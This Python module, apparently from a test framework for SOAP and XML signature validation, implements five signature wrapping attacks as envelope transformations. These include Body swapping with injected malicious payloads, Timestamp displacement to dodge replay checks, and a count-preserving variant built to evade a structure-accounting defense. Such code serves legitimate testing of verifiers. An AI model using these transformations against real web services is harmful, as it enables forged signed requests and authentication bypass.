"""Signature wrapping attacks as pure document transformations.

Every attack copies the input envelope, relocates or injects content,
and leaves the signature bytes untouched -- the whole point is that the
original references still resolve and verify while the receiver's
application logic processes something else.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from . import namespaces as ns
from .soap_model import SoapEnvelope
from .xml_core import XmlNode
from .xmlsig import (
    ACCOUNT_ID,
    Strategy,
    _account_node,
    _parse_account,
    _parse_references,
)


class AttackError(Exception):
    pass


class NoSignedBody(AttackError):
    pass


class HeaderNotFound(AttackError):
    pass


class NoTimestamp(AttackError):
    pass


class NotEnoughSignedSiblings(AttackError):
    pass


class BadPermutation(AttackError):
    pass


class NoSoapAccount(AttackError):
    pass


class CannotPreserveCounts(AttackError):
    pass


class AttackKind(Enum):
    SIMPLE_ANCESTRY = "simple"
    OPTIONAL_ELEMENT = "optional"
    SIBLING_VALUE = "sibling-value"
    SIBLING_ORDER = "sibling-order"
    COUNT_PRESERVING_SIMPLE = "count-preserving"


@dataclass
class AttackResult:
    doc: SoapEnvelope
    moved_nodes: list[int] = field(default_factory=list)
    injected_nodes: list[int] = field(default_factory=list)
    intent: str = ""


def _make_wrapper() -> XmlNode:
    w = XmlNode.element("Wrapper")
    w.set_attribute("mustUnderstand", "0", ns.SOAP_ENV, "soap")
    w.set_attribute("role", ns.ROLE_NONE, ns.SOAP_ENV, "soap")
    return w


def _count_elements(node: XmlNode) -> int:
    return sum(1 for _ in node.iter_elements())


def _has_body_coverage(env: SoapEnvelope, body: XmlNode) -> bool:
    body_id = body.get_attribute("Id", ns.WSU)
    for sig in env.signatures():
        for ref in _parse_references(sig):
            if ref.kind == Strategy.SESOAP:
                return True
            if ref.kind == Strategy.ID and ref.target_id == body_id:
                return True
            if ref.kind == Strategy.XPATH and ref.path.steps[-1].local == "Body":
                return True
    return False


def simple_ancestry(env: SoapEnvelope, malicious_payload: XmlNode,
                    new_id: str) -> AttackResult:
    """Swap the signed Body out into a header wrapper; inject a new Body."""
    env = env.copy()
    body = env.body()
    header = env.header()
    if body is None or header is None or not env.signatures():
        raise NoSignedBody("envelope has no signed Body to wrap")
    if not _has_body_coverage(env, body):
        raise NoSignedBody("no signature covers the Body")

    index = env.root.children.index(body)
    wrapper = _make_wrapper()
    header.append_child(wrapper)
    wrapper.append_child(body)  # relocates: append_child detaches first

    new_body = XmlNode.element("Body", ns.SOAP_ENV, "soap")
    new_body.set_attribute("Id", new_id, ns.WSU, "wsu")
    payload = malicious_payload.clone()
    new_body.append_child(payload)
    env.root.insert_child(index, new_body)

    return AttackResult(
        doc=env,
        moved_nodes=[body.node_id],
        injected_nodes=[new_body.node_id, payload.node_id],
        intent="receiver processes the injected Body while the signature "
               "verifies against the wrapped original",
    )


def optional_element(env: SoapEnvelope, target_header: tuple[str, str]) -> AttackResult:
    """Hide a signed optional header entry in a wrapper inside Security."""
    env = env.copy()
    header = env.header()
    sec = env.security()
    if header is None or sec is None:
        raise HeaderNotFound("envelope has no Header/Security")
    target = None
    for c in header.element_children():
        if c.qname == target_header:
            target = c
            break
    if target is None or not env.signatures():
        raise HeaderNotFound(f"no signed header entry {target_header}")

    wrapper = _make_wrapper()
    sec.append_child(wrapper)
    wrapper.append_child(target)
    return AttackResult(
        doc=env,
        moved_nodes=[target.node_id],
        intent="application logic ignores the wrapped header entry; "
               "no replacement is added",
    )


def sibling_value(env: SoapEnvelope) -> AttackResult:
    """Displace the signed Timestamp sibling of the Signature.

    The wrapper is a second wsse:Security block addressed to the "none"
    role: the receiver skips it, while an absolute path of the form
    /Envelope/Header/Security/Timestamp still matches the moved node.
    """
    env = env.copy()
    header = env.header()
    sec = env.security()
    if header is None or sec is None or not env.signatures():
        raise NoTimestamp("envelope has no security header")
    timestamp = None
    for c in sec.element_children():
        if c.qname == (ns.WSU, "Timestamp"):
            timestamp = c
            break
    if timestamp is None:
        raise NoTimestamp("no Timestamp sibling of the Signature")

    wrapper = XmlNode.element("Security", ns.WSSE, "wsse")
    wrapper.set_attribute("mustUnderstand", "0", ns.SOAP_ENV, "soap")
    wrapper.set_attribute("role", ns.ROLE_NONE, ns.SOAP_ENV, "soap")
    header.append_child(wrapper)
    wrapper.append_child(timestamp)
    return AttackResult(
        doc=env,
        moved_nodes=[timestamp.node_id],
        injected_nodes=[wrapper.node_id],
        intent="the Timestamp check is skipped by the receiver",
    )


def sibling_order(env: SoapEnvelope, permutation: list[int]) -> AttackResult:
    """Reorder individually signed, order-sensitive siblings in the Body."""
    env = env.copy()
    body = env.body()
    if body is None or not env.signatures():
        raise NotEnoughSignedSiblings("envelope has no signed Body content")
    siblings = [c for c in body.element_children()
                if c.get_attribute("Id", ns.WSU) is not None]
    if len(siblings) < 2:
        raise NotEnoughSignedSiblings(
            f"need at least 2 signed siblings, found {len(siblings)}")
    if sorted(permutation) != list(range(len(siblings))):
        raise BadPermutation(f"{permutation} is not a permutation of "
                             f"0..{len(siblings) - 1}")

    positions = [body.children.index(s) for s in siblings]
    order = list(body.children)
    for slot, src in zip(positions, permutation):
        order[slot] = siblings[src]
    body.set_child_order(order)
    return AttackResult(
        doc=env,
        moved_nodes=[s.node_id for s in siblings],
        intent="order-dependent semantics change while each per-element "
               "digest still verifies",
    )


def count_preserving_simple(env: SoapEnvelope, malicious_payload: XmlNode,
                            new_id: str) -> AttackResult:
    """Body swap engineered to keep all four accounting properties fixed.

    The wrapper is named soap:Envelope so the relocated Body keeps its
    recorded parent name; the injected Body subtree is padded to the
    element count of the original; one wrapper plus that count of
    unsigned filler elements are pruned from the header.
    """
    if _account_node(env) is None:
        raise NoSoapAccount("envelope carries no structure accounting header")
    env = env.copy()
    body = env.body()
    header = env.header()
    if body is None or header is None:
        raise NoSignedBody("envelope has no Body to wrap")

    b = _count_elements(body)

    # Injected subtree must weigh exactly as much as the original.
    new_body = XmlNode.element("Body", ns.SOAP_ENV, "soap")
    new_body.set_attribute("Id", new_id, ns.WSU, "wsu")
    payload = malicious_payload.clone()
    new_body.append_child(payload)
    injected = _count_elements(new_body)
    if injected > b:
        raise CannotPreserveCounts(
            f"malicious payload has {injected} elements, original body {b}")
    for _ in range(b - injected):
        new_body.append_child(XmlNode.element("Padding"))

    # Prunable filler: unsigned header elements outside Security, the
    # accounting header and any signed subtree.
    protected = set()
    sec = env.security()
    acct = _account_node(env)
    for el in (sec, acct):
        if el is not None:
            for d in el.iter_elements():
                protected.add(d.node_id)
    for sig in env.signatures():
        for ref in _parse_references(sig):
            if ref.kind == Strategy.ID:
                from .xml_core import find_by_id
                target = find_by_id(env.doc, ref.target_id or "")
                if target is not None:
                    for d in target.iter_elements():
                        protected.add(d.node_id)
    prunable = [el for el in header.iter_elements()
                if el is not header and el.node_id not in protected
                and not el.element_children()]
    needed = b + 1  # the moved body subtree plus the wrapper itself
    if len(prunable) < needed:
        raise CannotPreserveCounts(
            f"need {needed} prunable header elements, found {len(prunable)}")
    for el in prunable[:needed]:
        el.parent.remove_child(el)

    index = env.root.children.index(body)
    wrapper = XmlNode.element("Envelope", ns.SOAP_ENV, "soap")
    wrapper.set_attribute("mustUnderstand", "0", ns.SOAP_ENV, "soap")
    wrapper.set_attribute("role", ns.ROLE_NONE, ns.SOAP_ENV, "soap")
    header.append_child(wrapper)
    wrapper.append_child(body)
    env.root.insert_child(index, new_body)

    return AttackResult(
        doc=env,
        moved_nodes=[body.node_id],
        injected_nodes=[new_body.node_id, payload.node_id],
        intent="accounting counts recompute to their signed values while "
               "the injected Body is processed",
    )
